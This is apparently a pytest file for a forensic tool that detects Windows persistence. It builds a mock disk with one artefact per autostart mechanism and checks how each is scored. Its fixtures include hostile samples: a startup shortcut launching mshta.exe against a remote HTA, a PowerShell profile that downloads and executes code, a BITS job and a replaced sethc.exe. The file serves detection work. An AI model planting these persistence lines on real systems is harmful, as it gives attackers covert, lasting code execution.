"""A host with one of each autostart place: all planted ones are found and told, what is stock stays quiet."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from testdata.writers.shelllink import Content, Machine, Target, build
from tests.artifacts import test_com_hijacks as classes
from tests.artifacts.test_bits_jobs import job
from tests.artifacts.test_office_addins import package
from tests.artifacts.test_wmi_consumers import repository
from tests.formats.crafted_hives import hive
from tests.running import timeline

MADE = datetime(2024, 12, 2, 3, 4, 5, tzinfo=UTC)
ROAMING = "Users/hanako/AppData/Roaming/Microsoft"
STARTUP = f"{ROAMING}/Windows/Start Menu/Programs/Startup"


def link(path: str, arguments: str) -> bytes:
    return build(Target(path, MADE, MADE, MADE, 315), Machine(), Content(arguments=arguments))


FILES = {
    **{f"Windows/System32/wbem/Repository/{name}": data for name, data in repository().build().items()},
    "Windows/System32/config/SOFTWARE": hive(classes.MACHINE),
    "Users/hanako/AppData/Local/Microsoft/Windows/UsrClass.dat": hive(classes.USER),
    f"{STARTUP}/x.lnk": link("C:\\Windows\\System32\\mshta.exe", "http://192.0.2.7/a.hta"),
    f"{STARTUP}/OneNote.lnk": link("C:\\Program Files\\Microsoft Office\\ONENOTEM.EXE", "/tsr"),
    f"{STARTUP}/desktop.ini": b"[.ShellClassInfo]\r\n",
    f"{ROAMING}/Templates/Normal.dotm": package("word/document.xml"),
    f"{ROAMING}/Word/STARTUP/a.wll": b"MZ" + bytes(64),
    "Users/hanako/Documents/WindowsPowerShell/profile.ps1": b"iex (iwr http://192.0.2.7/a)\n",
    "ProgramData/Microsoft/Network/Downloader/qmgr.db": job("Upd", "", "C:\\Windows\\System32\\cmd.exe", "/c x"),
    "Windows/System32/cmd.exe": b"MZ" + bytes(400),
    "Windows/System32/sethc.exe": b"MZ" + bytes(400),
    "ProgramData/AnyDesk/system.conf": b"ad.x=1",
    "Windows/System32/GroupPolicy/Machine/Scripts/scripts.ini": b"[Startup]\r\n0CmdLine=C:\\ProgramData\\a.cmd\r\n",
}


def test_one_of_each(tmp_path: Path) -> None:
    for name, data in FILES.items():
        target = tmp_path / "evidence" / "C" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    run = timeline(tmp_path / "evidence", tmp_path / "case", "--all-events")
    assert "… 7 more: show persistence" in run.out, "a list that is cut says so"
    found = {(entry["mechanism"], entry["name"]): entry["score"] for entry in run.document()["persistence"]}
    assert {key for key, score in found.items() if score > 40} == {
        ("wmi", "Updater"), ("wmi", "Sc"), ("com", classes.TASK), ("com", classes.SENT), ("com", classes.SCRIPT),
        ("com", classes.LIBRARY), ("com", "{00000009-AAAA-BBBB-CCCC-000000000000}"), ("shell_extension", "Upd"),
        ("shell_extension", "{00000009-AAAA-BBBB-CCCC-000000000000}"), ("startup_folder", "x.lnk"),
        ("office_addin", "a.wll"), ("powershell_profile", "profile.ps1"), ("bits_job", "Upd"),
        ("accessibility_replaced", "sethc.exe"), ("logon_script", "Startup 0"),
    }  # fmt: skip
    assert {key for key, score in found.items() if score <= 40} == {
        ("wmi", "SCM Event Log Consumer"), ("wmi", "Lone"), ("com", classes.OWN), ("shell_extension", " OneDrive1"),
        ("startup_folder", "OneNote.lnk"),
    }  # fmt: skip
    assert max(score for score in found.values() if score <= 40) == 0
    rows = run.lines("undated.jsonl") + run.lines("timeline.jsonl")
    for stock in ("Sharing", "desktop.ini", "Normal.dotm"):
        assert any(stock in str(row) for row in rows), "what is stock is context, not dropped"
    tools = [row for row in rows if "AnyDesk" in str(row)]
    assert tools
